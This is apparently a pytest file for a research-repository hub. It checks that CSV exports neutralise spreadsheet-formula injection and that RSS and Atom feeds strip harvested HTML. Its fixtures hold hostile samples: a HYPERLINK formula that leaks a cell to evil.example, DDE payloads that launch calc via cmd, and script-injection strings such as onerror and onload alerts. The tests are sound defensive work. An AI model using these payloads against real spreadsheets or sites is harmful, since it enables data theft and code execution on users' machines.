"""Exports carry harvested text as data: CSV cells never start a spreadsheet formula, feeds carry
text and never a repository's markup."""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser
from xml.etree import ElementTree as ET

import pytest
from click.testing import CliRunner
from sqlalchemy import insert

from hub.accounts.users import create_user
from hub.cli import cli
from hub.exports import FORMULA_STARTS
from hub.models import Record, Role, UsageEvent, UsageKind, utcnow
from hub.pipeline.index import index_records
from hub.quality.report import build_report, to_csv
from hub.stats.reports import monthly_csv
from tests.search.conftest import add_member, add_record

PASSWORD = "quartz-lantern-meadow-7413"
CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')
HOSTILE = {"title": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "source": "@SUM(1+1)*cmd|' /C calc'!A0",
           "date": "+1+cmd|' /C calc'!A0", "language": "-2+3", "tab": "\t=1+1", "cr": "\r=1+1"}


@pytest.fixture
def hostile_repo(hub) -> int:
    """A repository whose only record has formula-looking values everywhere a report shows them."""
    inst_id, repo_id = add_member(hub, "evil", "Evil University", "恶意大学")
    now = utcnow()
    with hub.db.session() as session:
        session.execute(insert(Record), [{
            "id": 500, "repository_id": repo_id, "source_identifier": HOSTILE["source"], "hub_datestamp": now,
            "created_at": now, "meta": {"titles": [{"value": HOSTILE["title"], "lang": "eng"}],
                                        "dates": [HOSTILE["date"]], "types": [HOSTILE["tab"]],
                                        "rights": [HOSTILE["cr"]],
                                        "extra": {"invalid": {"languages": [HOSTILE["language"]]}}}}])
        session.add(UsageEvent(record_id=500, institution_id=inst_id, kind=UsageKind.VIEW, at=now))
    return repo_id


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def assert_no_formula(text: str) -> None:
    found = cells(text)
    assert found, "empty CSV"
    starting = [c for c in found if c.startswith(FORMULA_STARTS)]
    assert starting == [], starting
    for value in (HOSTILE["title"], HOSTILE["source"], HOSTILE["date"]):
        assert "'" + value in found, value  # the value kept, shown as text


def test_quality_report_csv_neutralises_formulas(hub, hostile_repo):
    with hub.db.session() as session:
        text = to_csv(build_report(session, hostile_repo))
    assert_no_formula(text)


def test_quality_report_csv_download_in_the_admin(app, hub, hostile_repo):
    with hub.db.session() as session:
        create_user(session, "root", PASSWORD, Role.HUB_ADMIN)
    client = app.test_client()
    token = CSRF.search(client.get("/admin/sign-in").get_data(as_text=True)).group(1)
    assert client.post("/admin/sign-in", data={"username": "root", "password": PASSWORD,
                                               "csrf_token": token}).status_code == 302
    response = client.get(f"/admin/quality/{hostile_repo}.csv")
    assert response.status_code == 200
    assert_no_formula(response.get_data(as_text=True))


def test_quality_report_csv_on_the_command_line(hub, hostile_repo):
    result = CliRunner().invoke(cli, ["quality", "report", str(hostile_repo), "--csv"],
                                obj={"hub": hub, "instance": hub.settings["INSTANCE_PATH"]})
    assert result.exit_code == 0, result.output
    assert_no_formula(result.output)


def test_usage_report_csv_neutralises_formulas(hub, hostile_repo):
    from hub.models import Institution

    with hub.db.session() as session:
        inst = session.query(Institution).filter_by(slug="evil").one()
        text = monthly_csv(session, inst, utcnow().strftime("%Y-%m"))
    assert "'" + HOSTILE["source"] in cells(text)
    assert [c for c in cells(text) if c.startswith(FORMULA_STARTS)] == []


class _Tags(HTMLParser):
    """The elements an HTML-rendering feed reader would build from a description."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []

    def handle_starttag(self, tag, attrs) -> None:
        self.tags.append(tag)


def tags_in(html_text: str) -> list[str]:
    parser = _Tags()
    parser.feed(html_text)
    parser.close()
    return parser.tags


MARKUP_ABSTRACT = ('<p>Graphene <b>sheets</b> at low temperature.</p><img src="x" onerror="alert(1)">'
                   "<p>Second <svg onload=alert(2)> paragraph &amp; more.</p>")
MARKUP_TITLE = "<i>Graphene</i> measured <script>alert(3)</script>"


@pytest.fixture
def markup_site(hub, app):
    _, repo = add_member(hub, "pku", "Peking University", "北京大学")
    index_records(hub, [add_record(hub, repo, 1, title=MARKUP_TITLE, abstract=MARKUP_ABSTRACT)])


def test_rss_descriptions_carry_text_not_harvested_markup(client, markup_site):
    rss = ET.fromstring(client.get("/feeds/rss").data)
    [item] = rss.findall("channel/item")
    description = item.find("description").text
    assert tags_in(description) == []  # what a reader renders as HTML holds no element at all
    assert "Graphene sheets at low temperature." in description and "<b>" not in description
    assert "&lt;svg onload=alert(2)&gt;" in description  # unknown markup shown as text
    title = item.find("title").text
    assert "<i>" not in title and "alert(3)" not in title and title.startswith("Graphene measured")


def test_atom_summaries_carry_text_not_harvested_markup(client, markup_site):
    ns = {"a": "http://www.w3.org/2005/Atom"}
    atom = ET.fromstring(client.get("/feeds/atom").data)
    [entry] = atom.findall("a:entry", ns)
    summary = entry.find("a:summary", ns)
    assert summary.get("type") == "text"
    assert "<b>" not in summary.text and "<img" not in summary.text and "<p>" not in summary.text
    assert "Graphene sheets at low temperature." in summary.text
    title = entry.find("a:title", ns)
    assert title.get("type") == "text" and "<i>" not in title.text and "alert(3)" not in title.text
